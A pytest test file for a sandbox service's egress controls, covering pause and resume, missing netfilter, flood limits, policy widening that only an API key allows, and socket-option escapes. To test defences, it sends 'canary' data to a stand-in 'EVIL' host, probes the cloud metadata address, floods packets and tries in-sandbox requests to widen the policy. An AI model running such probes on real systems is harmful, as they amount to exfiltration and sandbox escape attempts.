"""Corpus section H: what a sandbox goes through in its life, and who may widen its policy."""

from __future__ import annotations

import json
import os
import pathlib
import shutil
import threading

import pytest

import probes
import world
from world import ALLOWED, EVIL, block, datagrams, nothing_reaches, request, speak


def test_h162_a_paused_sandbox_comes_back_with_its_policy_and_what_it_has_used_up(lab, sandbox):
    box = sandbox(network={"allow_out": ["*.allowed.test", "allowed.test"], "deny_out": ["0.0.0.0/0"]})
    call = lambda method, path, body=None: lab.request(method, f"/sandboxes/{box.sandbox_id}{path}", body)
    token = probes.canary()[6:22]
    names = lambda marker, count: [(f"{token}{marker}{number}.allowed.test", 1) for number in range(count)]
    used_up = [reply["rcode"] for reply in world.lookups(box, names("a", 400))]
    assert used_up.count(5) > 50, used_up
    world.twin(lab, box)

    assert call("POST", "/pause")[0] in (200, 204)
    assert call("GET", "")[1]["state"] == "paused"
    assert call("POST", "/resume")[0] in (200, 204)

    with nothing_reaches(lab, box):
        attempts = [(EVIL, 4800, b"canary"), (ALLOWED, 443, world.hello(b"evil.test")), ("169.254.169.254", 80, b"x")]
        assert speak(box, attempts) == ["refused", "alert 49", "refused"]
    assert block(lab, box, address=EVIL, port=4800)["generation"] == 1
    # The budget of a permitted zone is no larger than it was: half a name a second is given back.
    again = [reply["rcode"] for reply in world.lookups(box, names("b", 60))]
    assert again.count(5) > 20, again

    # A policy that is changed meanwhile is the one it comes back to, with none of the old one's addresses.
    assert call("POST", "/pause")[0] in (200, 204)
    assert call("PUT", "/network", {"allow_out": ["other.test"]})[0] == 200
    assert call("POST", "/resume")[0] in (200, 204)
    before = len(lab.sink_lines())
    assert speak(box, [(ALLOWED, 4801, b"canary")]) == ["refused"] and lab.sink_lines()[before:] == []
    assert block(lab, box, address=ALLOWED, port=4801)["generation"] == 2
    world.twin(lab, box, "other.test", world.OTHER)


def test_h162_there_is_no_snapshot_that_could_be_restored_to_something_wider(lab, p1):
    for method, path in (("POST", "snapshot"), ("GET", "snapshots"), ("POST", "restore"), ("DELETE", "snapshots/x")):
        status, answer = lab.request(method, f"/sandboxes/{p1.sandbox_id}/{path}", {} if method == "POST" else None)
        assert (status, answer["code"]) == (501, "not_implemented"), (path, answer)
    assert lab.request("POST", f"/sandboxes/{p1.sandbox_id}/fork", {})[0] == 404
    world.twin(lab, p1)


#: Started in the daemon's place: with the file beside it, the kernel has no netfilter for it and its children, as when
#: the modules are not there (EPROTONOSUPPORT).
WRAPPER = """\
#!{python}
import ctypes, os, struct, sys
if os.path.exists({flag!r}):
    def step(code, true, false, value):
        return struct.pack("=HBBI", code, true, false, value)
    # socket(AF_NETLINK, any, NETLINK_NETFILTER)
    program = b"".join([
        step(0x20, 0, 0, 0), step(0x15, 0, 5, 41),
        step(0x20, 0, 0, 16), step(0x15, 0, 3, 16),
        step(0x20, 0, 0, 32), step(0x15, 0, 1, 12),
        step(0x06, 0, 0, 0x00050000 | 93), step(0x06, 0, 0, 0x7FFF0000),
    ])
    buffer = ctypes.create_string_buffer(program, len(program))
    filter = ctypes.create_string_buffer(struct.pack("=H6xQ", len(program) // 8, ctypes.addressof(buffer)))
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.prctl(22, 2, filter, 0, 0) != 0:
        raise OSError(ctypes.get_errno(), "prctl")
os.execv({real!r}, sys.argv)
"""


@pytest.fixture
def without_netfilter(tmp_path, labs):
    """A lab whose daemon, once it is started again, finds no packet filter in the kernel."""
    xtask = pathlib.Path(os.environ["BAILIWICK_XTASK"])
    flag = tmp_path / "no-netfilter"
    for program in xtask.parent.iterdir():
        if program.is_file() and os.access(program, os.X_OK) and program.name not in ("bailiwick", "xtask"):
            (tmp_path / program.name).symlink_to(program)
    # A copy: a program that is started by a link finds its neighbours where the link leads.
    shutil.copy2(xtask, tmp_path / "xtask")
    wrapper = tmp_path / "bailiwick"
    wrapper.write_text(WRAPPER.format(python="/usr/bin/python3", flag=str(flag), real=str(xtask.parent / "bailiwick")))
    wrapper.chmod(0o755)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("BAILIWICK_XTASK", str(tmp_path / "xtask"))
        process = labs.Process()
    try:
        yield process, labs.Lab(process.variables), flag
    finally:
        process.end()


def test_h164_without_a_packet_filter_no_sandbox_is_made_and_none_goes_on(without_netfilter):
    process, lab, flag = without_netfilter

    def create(network):
        return lab.request("POST", "/sandboxes", {"template": "python", "timeout": 300, "network": network})

    def connects(box: str, address: str) -> bool:
        cmd = f"getent ahostsv4 allowed.test; python3 -c \"import socket; socket.create_connection(('{address}', 80), 5).sendall(b'GET / HTTP/1.1')\""
        status, done = lab.request("POST", f"/sandboxes/{box}/commands", {"cmd": cmd, "timeout": 60})
        return status == 200 and done["exit_code"] == 0

    status, before = create(world.POLICIES["P1"])
    assert status == 201 and connects(before["sandbox_id"], ALLOWED)
    process.kill_daemon()
    flag.write_text("")
    process.restart_daemon()
    quiet_from = len(lab.sink_lines())
    for policy in ("P0", "P1", "P3", "P4"):
        status, answer = create(world.POLICIES[policy])
        assert status >= 500 and "sandbox_id" not in answer, (policy, status, answer)
    # The one that was there either runs behind the rules it has had, or does not run.
    assert not connects(before["sandbox_id"], EVIL)
    assert [line for line in lab.sink_lines()[quiet_from:] if line.get("destination") != ALLOWED] == []
    status, listed = lab.request("GET", "/sandboxes")
    assert status == 200 and json.dumps(listed).count('"running"') <= 1, listed
    # The twin: with a packet filter again, sandboxes are made again.
    process.kill_daemon()
    flag.unlink()
    process.restart_daemon()
    status, after = create(world.POLICIES["P1"])
    assert status == 201 and connects(after["sandbox_id"], ALLOWED) and not connects(after["sandbox_id"], EVIL)


def test_h169_a_flood_of_packets_and_handshakes_is_limited_and_no_neighbour_waits(lab, sandbox, p1):
    wired, named = sandbox(), sandbox(network=world.POLICIES["P1"])
    world.twin(lab, wired)
    world.bind(named, "allowed.test")
    # Tiny datagrams, each a flow of its own; and many of one flow to what is refused.
    packets = """
        client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sent = 0
        for number in range(12000):
            for target in ((EVIL, 10000 + number), ("169.254.169.254", 9)):
                try:
                    client.sendto(b"x", target)
                    sent += 1
                except OSError:
                    pass
        say(sent)
        """
    # Handshakes with a name that is not permitted, one after the other.
    handshakes = """
        got = 0
        for number in range(1500):
            try:
                client = tcp(ALLOWED, 443)
                client.sendall(HELLO)
                got += client.recv(7)[:1] == b"\\x15"
                client.close()
            except OSError:
                pass
        say(got)
        """
    done = {}
    flood = lambda name, box, body: done.update({name: probes.run(box, body)})
    threads = [
        threading.Thread(target=flood, args=("packets", wired, packets.replace("EVIL", repr(EVIL)))),
        threading.Thread(target=flood, args=("handshakes", named, handshakes.replace("ALLOWED", repr(ALLOWED)).replace("HELLO", repr(world.hello(b"evil.test"))))),
    ]
    before = len(lab.sink_lines())
    for thread in threads:
        thread.start()
    while any(thread.is_alive() for thread in threads):
        world.twin(lab, p1)
    for thread in threads:
        thread.join()
    assert done["packets"] > 100 and done["handshakes"] > 1000, done
    # Not all of the flows were opened, and those that were not are on record.
    opened = [line for line in lab.sink_lines()[before:] if line["kind"] == "data" and line["destination"] == EVIL]
    assert len(opened) < 12000
    over = lambda events: [e for e in events if e.get("reason") == "flow_limit"]
    assert {e["address"] for e in over(lab.wait_for_events(wired.sandbox_id, over))} == {EVIL}
    floor = lambda events: [e for e in events if e.get("address") == "169.254.169.254"]
    assert {e["reason"] for e in floor(lab.wait_for_events(wired.sandbox_id, floor))} == {"floor"}
    refused = lambda events: [e for e in events if e.get("host") == "evil.test" and e.get("port") == 443]
    events = refused(lab.wait_for_events(named.sandbox_id, lambda events: sum(e["count"] for e in refused(events)) >= done["handshakes"]))
    assert sum(e["count"] for e in events) >= done["handshakes"] and {e["reason"] for e in events} == {"deny_entry"}
    assert not [e for e in lab.events(p1.sandbox_id) if e.get("reason") in ("flow_limit", "flow_rate", "half_open")]
    # And those that flooded are served again themselves.
    world.wait_for(lambda: speak(named, [(ALLOWED, 80, request("allowed.test"))]) == ["http 200"])
    world.wait_for(lambda: datagrams(wired, [(EVIL, 9, b"canary")])[0].startswith("answer"))


def test_h182_nobody_inside_can_ask_for_more_and_only_a_key_gives_it(lab, sandbox):
    box = sandbox(network=world.POLICIES["P1"])
    own = f"/sandboxes/{box.sandbox_id}"
    wider = {"allow_out": ["allowed.test", "evil.test"]}
    # There is no such call, with a key or without one.
    for path in ("/request_egress", f"{own}/request_egress", f"{own}/egress/requests", f"{own}/network/requests", f"{own}/network/approve"):
        for method in ("POST", "PUT", "GET"):
            status, answer = lab.request(method, path, wider if method != "GET" else None)
            assert status in (404, 405, 501), (method, path, status, answer)
    # The one that there is wants a key; a token that may narrow does not widen.
    for headers in ({"X-API-Key": None}, {"X-API-Key": "of-nobody"}, {"X-API-Key": None, "Authorization": "Bearer of-nobody"}):
        assert lab.request("PUT", f"{own}/network", wider, headers)[0] == 401
    status, made = lab.request("POST", f"{own}/ratchet")
    assert status == 201
    status, answer = lab.request("PUT", f"{own}/network", wider, {"X-API-Key": made["token"]})
    assert (status, answer["code"]) == (403, "policy_widens") and "evil.test" in answer["message"], answer
    # A page that tells whoever reads it to ask for more is a page; the API is not reached from inside at all.
    api = int(lab.variables["BAILIWICK_LAB_NODE_API"].rsplit(":", 1)[1])
    with nothing_reaches(lab, box):
        targets = [lab.variables["BAILIWICK_LAB_NODE"], "127.0.0.1", "100.64.0.1", ALLOWED]
        asked = [(target, api, request("localhost", f"{own}/network", "PUT", body='{"allow_out": ["evil.test"]}')) for target in targets]
        assert speak(box, asked) == ["refused"] * 3 + ["http 403"]
        assert speak(box, [(EVIL, 4900, b"canary")]) == ["refused"]
    assert block(lab, box, address=EVIL, port=4900)["generation"] == 1
    # The twin: with the key it is widened, and there is a record of who did it.
    assert lab.request("PUT", f"{own}/network", wider)[0] == 200
    world.twin(lab, box, "evil.test", EVIL)
    changed = lambda events: [e for e in events if e["category"] == "lifecycle" and e["type"].startswith("policy")]
    events = lab.wait_for_events(box.sandbox_id, lambda events: len(changed(events)) >= 2)
    assert "policy_change_refused" in {e["type"] for e in changed(events)}, changed(events)


def test_h181_socket_options_do_not_escape(lab, p1, p3):
    for box in (p1, p3):
        with nothing_reaches(lab, box):
            result = probes.run(box, f"""
                def option(level, name, value, target={EVIL!r}):
                    client = socket.socket()
                    client.settimeout(2)
                    client.setsockopt(level, name, value)
                    client.connect((target, 80))
                    client.sendall(b"canary")
                    return "connected"
                interfaces = [name.encode() for _, name in socket.if_nameindex()]
                say([outcome(lambda: option(socket.SOL_SOCKET, 36, 1)), outcome(lambda: option(socket.SOL_SOCKET, 36, 2)), outcome(lambda: option(0, 19, 1)),
                     outcome(lambda: option(socket.SOL_SOCKET, 12, 7)), outcome(lambda: option(0, 1, 0x10)), outcome(lambda: option(0, 50, socket.inet_aton("0.0.0.1")))]
                    + [outcome(lambda: option(socket.SOL_SOCKET, 25, name)) for name in interfaces]
                    + [outcome(lambda: option(socket.SOL_SOCKET, 25, name, {ALLOWED!r} if {box is p1!r} else {EVIL!r})) for name in interfaces if name != b"lo"])
                """, user="root")
            assert not [each for each in result if each["ok"]], result
